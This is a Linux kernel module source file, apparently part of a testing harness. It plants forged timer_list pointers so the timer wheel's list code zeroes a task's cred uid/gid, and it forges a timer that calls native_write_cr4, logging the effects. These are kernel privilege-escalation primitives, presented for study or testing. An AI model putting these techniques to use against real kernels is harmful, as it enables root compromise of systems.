// SPDX-License-Identifier: GPL-2.0
/*
 * The list family: no call is redirected by .function; the write plants the
 * timer's entry pointers and the wheel's own list code follows them, as the
 * model's payloads do (attacks/payloads.c, LIST_FORGED_TIMER and
 * LIST_HLIST_DEL).
 *
 * list:hlist-del, before-arm: entry.next = NULL, entry.pprev = &cred->uid
 * of the sleeper (a task running as uid 1000). The victim then arms its
 * timer: mod_timer() -> __mod_timer() finds it pending (pprev set) ->
 * detach_if_pending() -> detach_timer() -> __hlist_del() does *pprev = next
 * (include/linux/list.h), eight zero bytes over uid and gid (struct cred,
 * include/linux/cred.h: usage, then uid; no CONFIG_DEBUG_CREDENTIALS fields
 * before them).
 *
 * list:hlist-del, pending: entry.next = &cred->uid - 8 (the cred's usage
 * word), pprev left as it is. At expiry __run_timers() ->
 * collect_expired_timers() moves the bucket to its heads[] and
 * expire_timers() -> detach_timer() does *pprev = next (the list's head is
 * now &uid - 8) and next->pprev = pprev: the head's address over uid and
 * gid. The victim's callback runs; then the walk takes the cred as a timer
 * and detaches it: its "next" is the cred's usage count, a small number,
 * and writing through it faults (an oops in the timer softirq).
 *
 * list:forged-timer, pending: entry.next = a timer_list of the attacker's
 * (allocated: sprayed, its address leaked), next NULL, .function =
 * native_write_cr4, flags 0. expire_timers() detaches the victim (the
 * forged timer becomes the head), calls the victim's callback, then takes
 * the forged timer and calls its .function with it: call_timer_fn(forged,
 * native_write_cr4). The unit watches the forged timer's call.
 */
#include <linux/cred.h>
#include <linux/kallsyms.h>
#include <linux/kernel.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/string.h>
#include "th_unit.h"

void *th_list_target;
static bool th_list_pending;

static int th_forged_timer(struct th_image *img)
{
	unsigned long fn = kallsyms_lookup_name("native_write_cr4");
	struct timer_list *forged;

	if (!fn) {
		th_say("TARGET missing native_write_cr4: not in this kernel's kallsyms\n");
		return -ENOENT;
	}
	forged = kzalloc(sizeof(*forged), GFP_KERNEL);
	if (!forged)
		return -ENOMEM;
	forged->entry.next = NULL;
	forged->function = (void (*)(struct timer_list *))fn;
	forged->flags = 0;	/* CPU 0, not TIMER_IRQSAFE */
	img->t->entry.next = &forged->entry;
	img->watch = forged;
	snprintf(img->intent_buf, sizeof(img->intent_buf),
		 "entry.next = a forged timer_list %px {next NULL, .function = %pS, flags 0}",
		 forged, (void *)fn);
	img->intent = img->intent_buf;
	return 0;
}

int th_list_payload(const char *payload, bool pending, struct th_victim *v, struct th_image *img)
{
	const struct cred *c;

	if (!strcmp(payload, "list:forged-timer")) {
		if (!pending)
			return -EOPNOTSUPP;	/* mod_timer()'s hlist_add_head() rewrites next */
		return th_forged_timer(img);
	}
	if (strcmp(payload, "list:hlist-del"))
		return -EINVAL;
	if (!pending && !v->arm)
		return -EOPNOTSUPP;
	c = get_task_cred(th_sleeper);
	th_list_target = (void *)&c->uid;
	put_cred(c);
	th_list_pending = pending;
	if (pending) {
		img->t->entry.next = (struct hlist_node *)((u8 *)th_list_target - sizeof(void *));
		img->intent = "entry.next = &th-sleeper's cred->uid - 8, entry.pprev left (the wheel's)";
	} else {
		img->t->entry.next = NULL;
		img->t->entry.pprev = (struct hlist_node **)th_list_target;
		img->intent = "entry.next = NULL, entry.pprev = &th-sleeper's cred->uid";
	}
	return 0;
}

void th_list_after_rearm(struct th_victim *v)
{
	const struct cred *c = get_task_cred(th_sleeper);

	th_say("EFFECT cred th-sleeper uid=%u gid=%u euid=%u (set to 1000 at start)\n",
	       from_kuid(&init_user_ns, c->uid), from_kgid(&init_user_ns, c->gid),
	       from_kuid(&init_user_ns, c->euid));
	put_cred(c);
}

void th_list_at_call(void)
{
	const struct cred *c;
	const u32 *w;

	if (!th_list_target || !th_list_pending)
		return;
	rcu_read_lock();
	c = rcu_dereference(th_sleeper->cred);
	w = (const u32 *)&c->uid;
	th_say("STATE cred th-sleeper at the victim's call, after expire_timers() detached it: uid,gid words %#x,%#x (1000,1000 at start)\n",
	       READ_ONCE(w[0]), READ_ONCE(w[1]));
	rcu_read_unlock();
}
